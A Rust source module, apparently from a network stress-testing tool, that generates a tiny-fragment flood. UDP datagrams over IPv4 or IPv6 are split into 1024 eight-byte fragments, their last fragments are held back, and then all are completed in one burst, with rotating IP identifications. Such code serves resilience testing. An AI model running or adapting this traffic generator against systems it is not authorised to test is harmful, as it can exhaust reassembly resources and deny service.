//! Datagrams in fragments of 8 bytes.

use lvs_packet::fragment::Cutter;
use lvs_packet::frame::Frame;
use lvs_packet::wire::{be16, ipv4, put16};

use super::frames::{Kind, ethernet, packet};
use super::{Target, Volley};

/// Number of fragments of a datagram.
const PIECES: usize = 1024;
/// Number of rounds after which IP identifications repeat.
const ROUNDS: u16 = 1000;

/// First sends 50 datagrams without their last fragments, then all last fragments together, so that
/// one batch completes all stored datagrams.
pub(super) struct TinyFragments {
    ipv6: bool,
    datagrams: u16,
    pieces: Vec<Vec<u8>>,
    last: Vec<Vec<u8>>,
    at: usize,
    round: u16,
    target: Target,
}

impl TinyFragments {
    pub(super) fn v4(target: &Target, port: u16) -> Box<dyn Volley> {
        Box::new(Self::new(target, false, port))
    }

    pub(super) fn v6(target: &Target, port: u16) -> Box<dyn Volley> {
        Box::new(Self::new(target, true, port))
    }

    fn new(target: &Target, ipv6: bool, port: u16) -> Self {
        let data = vec![0x5a; 8 * PIECES - 8];
        let mut ip = if ipv6 {
            packet(target.source6(7), target.service6(port), Kind::Udp, &data)
        } else {
            packet(target.source4(7), target.service4(port), Kind::Udp, &data)
        };
        let limit = if ipv6 { 56 } else { 28 };
        let cut = if ipv6 {
            Cutter::v6(&ip, limit, None, 0)
        } else {
            put16(&mut ip, 6, 0);
            ipv4::finish_header(&mut ip);
            Cutter::v4(&ip, limit, None, false)
        };
        let cut = cut.expect("a fragment has room for 8 bytes");
        let mut pieces: Vec<Vec<u8>> = cut.frames().map(|piece| piece.bytes().to_vec()).collect();
        let last = vec![
            pieces
                .pop()
                .expect("the datagram has more than one fragment"),
        ];
        Self {
            ipv6,
            datagrams: 50,
            pieces,
            last,
            at: 0,
            // A second attack must not repeat the identifications of the first one.
            round: u16::try_from(std::process::id() % u32::from(ROUNDS)).unwrap_or(0),
            target: *target,
        }
    }
}

impl Volley for TinyFragments {
    fn next(&mut self) -> Frame {
        let (many, datagrams) = (self.pieces.len(), usize::from(self.datagrams));
        let (which, ip) = if self.at < many * datagrams {
            (self.at / many, &self.pieces[self.at % many])
        } else {
            (self.at - many * datagrams, &self.last[0])
        };
        let mut ip = ip.clone();
        let id = self.round * self.datagrams + u16::try_from(which).unwrap_or(0) + 1;
        if self.ipv6 {
            put16(&mut ip, 46, id);
        } else {
            put16(&mut ip, 4, id);
            ipv4::finish_header(&mut ip);
            debug_assert_eq!(be16(&ip, 4), id);
        }
        self.at += 1;
        if self.at == (many + 1) * datagrams {
            self.at = 0;
            self.round = (self.round + 1) % ROUNDS;
        }
        ethernet(&self.target, &ip)
    }
}
